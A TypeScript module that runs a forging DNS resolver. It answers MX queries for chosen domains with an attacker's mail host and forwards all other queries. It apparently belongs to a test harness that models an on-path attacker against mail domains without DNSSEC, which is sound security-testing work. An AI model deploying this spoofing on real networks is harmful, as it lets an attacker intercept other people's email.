import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import * as packet from 'dns-packet';
import { ATTACKER, ATTACKERS_HOST, RESOLVER } from './addresses';

/** The path to DNS, without DNSSEC as for most mail domains: the attacker can put an answer in the place of the true one. */
export class DnsPath {
  static async to(dns: { readonly address: string; readonly port: number }): Promise<DnsPath> {
    const path = new DnsPath();
    const socket = createSocket('udp4');
    socket.on('message', async (query, peer) => {
      const reply = path.spoof(query) ?? await forward(query, dns).catch(() => undefined);
      if (reply) {
        socket.send(reply, peer.port, peer.address);
      }
    });
    socket.bind(53, RESOLVER);
    await once(socket, 'listening');
    return path;
  }

  /** Domains whose MX answer is the attacker's. */
  readonly spoofed = new Set<string>();

  private spoof(query: Buffer): Buffer | undefined {
    const asked = packet.decode(query);
    const { name, type } = asked.questions![0];
    const answer: packet.Answer | undefined =
      type === 'MX' && this.spoofed.has(name.toLowerCase()) ? { name, type, ttl: 0, data: { preference: 0, exchange: ATTACKERS_HOST } }
        : type === 'A' && name.toLowerCase() === ATTACKERS_HOST ? { name, type, ttl: 0, data: ATTACKER }
          : undefined;
    return answer && packet.encode({
      type: 'response', id: asked.id, flags: packet.RECURSION_DESIRED + packet.RECURSION_AVAILABLE, questions: asked.questions, answers: [answer],
    });
  }
}

async function forward(query: Buffer, { address, port }: { readonly address: string; readonly port: number }): Promise<Buffer> {
  const socket = createSocket('udp4');
  try {
    socket.send(query, port, address);
    const [reply] = await once(socket, 'message', { signal: AbortSignal.timeout(30_000) }) as [Buffer];
    return reply;
  } finally {
    socket.close();
  }
}
